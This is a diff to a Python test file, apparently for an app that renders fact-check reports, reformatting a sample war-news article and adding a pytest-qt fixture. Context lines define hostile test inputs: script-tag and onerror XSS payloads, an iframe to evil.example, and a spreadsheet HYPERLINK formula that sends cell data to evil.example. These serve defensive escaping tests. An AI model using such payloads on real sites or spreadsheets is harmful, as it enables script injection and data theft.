@@ -27,13 +27,14 @@ BASE_URL = "https://check.example.org/2017/tal-sarmin"
 
 # Written for these tests in the style of the war reports the app is made for; emoji (outside the Basic
 # Multilingual Plane) come before the quoted passages, so code points and UTF-16 units differ there.
-ARTICLE = """Clashes Reported Near Wadi Rummana Checkpoint 🔴
-By Field Desk | 07.12.2017
-
-🇸🇾 Pro-government channels said on Thursday that army units repelled an attack on the Wadi Rummana checkpoint. Local sources said at least three fighters were killed in the exchange.
-
-The ISIS-linked Amaq agency claimed its fighters “destroyed a tank” near the checkpoint, but no photos were published. Residents reached by phone said the shooting stopped before dawn.
-"""
+ARTICLE = (
+    "Clashes Reported Near Wadi Rummana Checkpoint 🔴\n"
+    "By Field Desk | 07.12.2017\n\n"
+    "🇸🇾 Pro-government channels said on Thursday that army units repelled an attack on the Wadi Rummana "
+    "checkpoint. Local sources said at least three fighters were killed in the exchange.\n\n"
+    "The ISIS-linked Amaq agency claimed its fighters “destroyed a tank” near the checkpoint, but no photos were "
+    "published. Residents reached by phone said the shooting stopped before dawn.\n"
+)
 SCRIPT = '</script><script>alert("x")</script>'
 HOSTILE_CLAIM = f'=HYPERLINK("http://evil.example/?q="&A1,"Click") {SCRIPT} "}}]}} <!--'
 HOSTILE_RATIONALE = ("**Bold stays.** <script>alert(1)</script> <img src=x onerror=alert(2)> "
@@ -41,6 +42,13 @@ HOSTILE_RATIONALE = ("**Bold stays.** <script>alert(1)</script> <img src=x onerr
                      "```\n</script><script>alert(4)</script>\n```\n\n<iframe src=http://evil.example></iframe>")
 HOSTILE_TITLE = '</title><script>alert("title")</script>'
 HOSTILE_URL = 'https://evil.example/"onmouseover="alert(5)'
+
+
+@pytest.fixture(scope="session", autouse=True)
+def _qt_application(qapp: object) -> object:
+    """pytest-qt's QApplication, made before render_pdf would make a plain QGuiApplication (a process can have
+    only one, and the GUI tests that may follow in the same run need a QApplication)."""
+    return qapp
 
 
 @dataclass(frozen=True)
